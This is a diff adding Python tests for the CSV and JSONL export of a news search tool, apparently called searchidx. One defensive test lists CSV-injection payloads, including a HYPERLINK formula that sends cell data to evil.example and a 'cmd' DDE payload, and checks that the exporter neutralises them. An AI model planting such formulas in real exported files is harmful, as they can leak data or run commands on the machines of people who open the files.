@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 
 from hypothesis import given, strategies as st
 
-from searchidx.models import Article, Hit, Snippet
-from searchidx.render import BOLD, RESET, article_dict, hit_dict, hits_text, results_json, safe, snippet_text
+from searchidx.models import Article, Copy, Hit, Snippet
+from searchidx.render import (
+    BOLD, RESET, article_dict, csv_cell, hit_dict, hits_text, records_jsonl, results_json, rows_csv, safe, snippet_text,
+)
 
 BEIJING = dt.timezone(dt.timedelta(hours=8))
 
@@ -83,3 +87,63 @@ def test_every_hit_keeps_its_shape_whatever_the_document_holds() -> None:
     assert lines[1].startswith("   2020-02-16 10:16 UTC+08:00 · MUNICH · Xinhua · speakers: Wang Yi")
     assert lines[2] == "   /x/odd\\nname.txt"
     assert len(lines) == 4
+
+
+def _copies() -> tuple[Copy, ...]:
+    return (Copy("b.html", "/y/b.html", "Talks, again", dt.date(2020, 2, 16), "China Daily", "https://b.example/1"),
+            Copy("c.txt", "/z/c.txt", None, None, None, None))
+
+
+def test_copies_are_named_on_the_hit_in_text_and_json() -> None:
+    hit = _hit(copies=_copies())
+    assert hits_text([hit]).splitlines()[-1] == "   +2 copies: China Daily 2020-02-16, c.txt"
+    data = hit_dict(hit)
+    assert data["copies"] == [
+        {"id": "b.html", "path": "/y/b.html", "title": "Talks, again", "date": "2020-02-16", "source": "China Daily",
+         "url": "https://b.example/1"},
+        {"id": "c.txt", "path": "/z/c.txt", "title": None, "date": None, "source": None, "url": None}]
+    assert hit_dict(_hit())["copies"] == []
+
+
+def test_jsonl_is_one_json_hit_per_line_with_the_json_fields() -> None:
+    hits = [_hit(), _hit(id="b.txt", rank=2, copies=_copies())]
+    lines = records_jsonl([hit_dict(h) for h in hits]).splitlines()
+    assert [json.loads(line) for line in lines] == [hit_dict(h) for h in hits]
+
+
+def test_csv_has_the_json_fields_and_keeps_commas_quotes_and_newlines_in_their_cells() -> None:
+    tricky = 'Ministers say "no", then\nagree, at last'
+    hits = [_hit(title=tricky, snippet=Snippet("a, b\r\nc", ((0, 1),)), copies=_copies())]
+    rows = list(csv.reader(io.StringIO(rows_csv([hit_dict(h) for h in hits]), newline="")))
+    assert rows[0] == list(hit_dict(hits[0]))
+    row = dict(zip(rows[0], rows[1]))
+    assert len(rows) == 2 and row["title"] == tricky and row["snippet"] == "a, b\r\nc"
+    assert row["speakers"] == "Wang Yi; Sergei Lavrov" and row["score"] == "1.5"
+    assert json.loads(row["matches"]) == [[0, 1]]
+    assert [c["id"] for c in json.loads(row["copies"])] == ["b.html", "c.txt"]
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() -> None:
+    """OWASP's CSV injection list: a cell starting with =, +, -, @, a tab or a carriage return."""
+    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\tx", "\rx", "  =1+1", "\x1b[2J=1+1"]
+    for text in evil:
+        cell = csv_cell(text)
+        assert cell.startswith("'") and cell.lstrip("'").lstrip(" ")[0] in "=+-@\t\r", text
+    hits = [_hit(title=t, rank=i) for i, t in enumerate(evil, 1)]
+    rows = list(csv.reader(io.StringIO(rows_csv([hit_dict(h) for h in hits]), newline="")))[1:]
+    assert [r[3] for r in rows] == ["'" + e.replace("\x1b[2J", "") for e in evil]
+    assert csv_cell("Talks = progress") == "Talks = progress" and csv_cell(-1.5) == -1.5  # numbers stay numbers
+    assert csv_cell(None) == "" and csv_cell(["a", "b"]) == "a; b"
+
+
+def test_csv_of_no_hits_is_empty() -> None:
+    assert rows_csv([]) == "" and records_jsonl([]) == ""
+
+
+def test_csv_spreads_a_quotes_article_into_columns_of_its_own() -> None:
+    rows = list(csv.reader(io.StringIO(rows_csv([
+        {"speaker": "Wang Yi", "quote": "=1+1, he said", "article": {"id": "a.txt", "title": "Talks", "date": None}},
+    ]), newline="")))
+    assert rows == [["speaker", "quote", "article.id", "article.title", "article.date"],
+                    ["Wang Yi", "'=1+1, he said", "a.txt", "Talks", ""]]
